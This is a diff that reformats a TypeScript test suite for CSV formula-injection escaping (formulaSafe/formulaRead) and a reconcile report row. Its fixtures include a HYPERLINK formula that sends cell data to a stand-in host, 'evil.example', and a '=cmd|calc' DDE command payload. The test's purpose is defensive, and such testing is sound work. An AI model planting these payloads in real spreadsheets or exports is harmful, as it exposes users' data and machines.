@@ -10,18 +10,48 @@ import { readRecords } from '../../src/lib/cli/record-file.js';
 import { reportRow } from '../../src/lib/reconcile/diff/decide.js';
 
 const VALUES = [
-  '=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+1', '+1', '+SUM(A1)', '-1', '-2.5', '-1+2', '-1:abc', '-', '@SUM(A1)', '\tx', '\rx', '\r\n=x',
-  "'", "''", "'=x", "''=x", "'-1", "'abc", 'abc', '', '1', '007', '1e5', 'a=b', ' =x', 'NO_ROUTE: =x', '中文=', '＝1',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '=1+1',
+  '+1',
+  '+SUM(A1)',
+  '-1',
+  '-2.5',
+  '-1+2',
+  '-1:abc',
+  '-',
+  '@SUM(A1)',
+  '\tx',
+  '\rx',
+  '\r\n=x',
+  "'",
+  "''",
+  "'=x",
+  "''=x",
+  "'-1",
+  "'abc",
+  'abc',
+  '',
+  '1',
+  '007',
+  '1e5',
+  'a=b',
+  ' =x',
+  'NO_ROUTE: =x',
+  '中文=',
+  '＝1',
 ];
 const DANGER = /^[=+\-@\t\r]/;
 const NUMBER = /^-?\d+(\.\d+)?$/;
 
 describe('formulaSafe / formulaRead', () => {
-  it.each(VALUES.map((v) => [JSON.stringify(v), v]))('%s: read back exactly, and never written as a formula', (_, v) => {
-    const written = formulaSafe(v);
-    expect(formulaRead(written)).toBe(v);
-    expect(DANGER.test(written) && !NUMBER.test(written)).toBe(false);
-  });
+  it.each(VALUES.map((v) => [JSON.stringify(v), v]))(
+    '%s: read back exactly, and never written as a formula',
+    (_, v) => {
+      const written = formulaSafe(v);
+      expect(formulaRead(written)).toBe(v);
+      expect(DANGER.test(written) && !NUMBER.test(written)).toBe(false);
+    },
+  );
   it('marks only what needs it; a negative number stays a number', () => {
     expect(formulaSafe('=HYPERLINK("x")')).toBe(`'=HYPERLINK("x")`);
     expect(formulaSafe('-1')).toBe('-1');
@@ -34,12 +64,39 @@ describe('formulaSafe / formulaRead', () => {
     expect(formulaRead("'-1")).toBe('-1');
   });
   it('through csv-stringify and the --from reader: every value back exactly (CSV only; JSON lines are never marked)', () => {
-    const text = stringify(VALUES.map((v) => [formulaSafe(v), 'x']), { header: true, columns: ['operationId', 'other'] });
-    expect(readRecords(text, [{ csv: 'operationId', json: 'operationId' }]).records.map((r) => r.values[0])).toEqual(VALUES);
-    expect(readRecords(`${JSON.stringify({ operationId: "'=x" })}\n`, [{ csv: 'operationId', json: 'operationId' }]).records[0]!.values).toEqual(["'=x"]);
+    const text = stringify(
+      VALUES.map((v) => [formulaSafe(v), 'x']),
+      { header: true, columns: ['operationId', 'other'] },
+    );
+    expect(readRecords(text, [{ csv: 'operationId', json: 'operationId' }]).records.map((r) => r.values[0])).toEqual(
+      VALUES,
+    );
+    expect(
+      readRecords(`${JSON.stringify({ operationId: "'=x" })}\n`, [{ csv: 'operationId', json: 'operationId' }])
+        .records[0]!.values,
+    ).toEqual(["'=x"]);
   });
   it("reconcile's report.csv row: a formula-like cell from a database is marked, numbers are not", () => {
-    const f = { answerUuid: '=cmd|calc', schId: '-5', revision: '3', contentHash: '+h', isDeleted: false, createTime: '2026-11-01 00:00:00' };
-    expect(reportRow('MISSING_LOCAL', f as never, null)).toEqual(['MISSING_LOCAL', "'=cmd|calc", '-5', '3', "'+h", '0', '', '', '', '', '']);
+    const f = {
+      answerUuid: '=cmd|calc',
+      schId: '-5',
+      revision: '3',
+      contentHash: '+h',
+      isDeleted: false,
+      createTime: '2026-11-01 00:00:00',
+    };
+    expect(reportRow('MISSING_LOCAL', f as never, null)).toEqual([
+      'MISSING_LOCAL',
+      "'=cmd|calc",
+      '-5',
+      '3',
+      "'+h",
+      '0',
+      '',
+      '',
+      '',
+      '',
+      '',
+    ]);
   });
 });
